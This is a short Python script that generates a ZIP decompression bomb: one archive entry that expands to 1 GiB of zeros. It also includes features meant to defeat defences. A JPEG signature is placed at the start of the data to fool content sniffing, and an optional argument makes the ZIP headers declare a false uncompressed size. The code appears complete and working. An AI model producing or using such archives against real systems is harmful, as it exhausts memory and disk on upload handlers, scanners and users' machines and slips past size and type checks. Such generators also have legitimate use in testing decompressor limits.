"""Writes a ZIP whose one entry inflates to 1 GiB of zeros, in about a second.

usage: make_zip_bomb.py OUT NAME [DECLARED_SIZE]

The deflate stream is one fully flushed block of 1 MiB of zeros repeated
1024 times (a full flush makes each copy independent of the ones before),
so nothing is compressed beyond the first MiB. The first block starts with
a JPEG signature, so that a reader judging content by its first bytes reads
on. DECLARED_SIZE, when given, is the uncompressed size the headers claim:
a lying archive.
"""
import struct
import sys
import zlib

out, name = sys.argv[1], sys.argv[2].encode()
chunk = bytes(1 << 20)
first = b"\xff\xd8\xff" + chunk[3:]
copies = 1024
compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
first_block = compressor.compress(first) + compressor.flush(zlib.Z_FULL_FLUSH)
block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
tail = compressor.flush(zlib.Z_FINISH)
crc = zlib.crc32(first)
for _ in range(copies - 1):
    crc = zlib.crc32(chunk, crc)
size = len(chunk) * copies
declared = int(sys.argv[3]) if len(sys.argv) > 3 else size
compressed = len(first_block) + len(block) * (copies - 1) + len(tail)

with open(out, "wb") as archive:
    archive.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, compressed, declared, len(name), 0) + name)
    archive.write(first_block)
    for _ in range(copies - 1):
        archive.write(block)
    archive.write(tail)
    directory_offset = archive.tell()
    directory = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, compressed, declared, len(name), 0, 0, 0, 0, 0, 0
    ) + name
    archive.write(directory)
    archive.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(directory), directory_offset, 0))
